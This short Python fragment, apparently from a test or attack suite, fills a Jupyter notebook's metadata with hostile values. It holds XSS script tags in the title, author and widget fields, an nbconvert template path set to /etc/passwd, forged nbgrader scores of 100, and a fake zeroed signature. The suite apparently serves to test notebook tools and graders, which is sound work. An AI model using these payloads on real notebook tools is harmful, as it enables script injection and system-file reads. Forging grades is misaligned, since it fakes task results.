# Fills the notebook's own metadata with what tools read: widget states, a title with a script, settings
# of nbconvert, papermill and nbgrader.
# %% from attacks/parts/stand_ins.py
# %% [notebook]
script = "<script>alert('REFEREE-XSS')</script>"
notebook.metadata.update(
    {
        "title": f"</title>{script}",
        "authors": [{"name": script}],
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {
                    "a": {"model_name": script, "model_module": "</script>" + script, "state": {}}
                },
                "version_major": 2,
                "version_minor": 0,
            }
        },
        "nbconvert": {"exporter": "python", "template_file": "/etc/passwd"},
        "papermill": {"exception": False, "status": "completed"},
        "nbgrader": {"score": 100, "max_score": 100, "grade": True},
        "celltoolbar": "Create Assignment",
        "toc": {"base_numbering": script},
        "signature": "sha256:" + "0" * 64,
    }
)
deed()
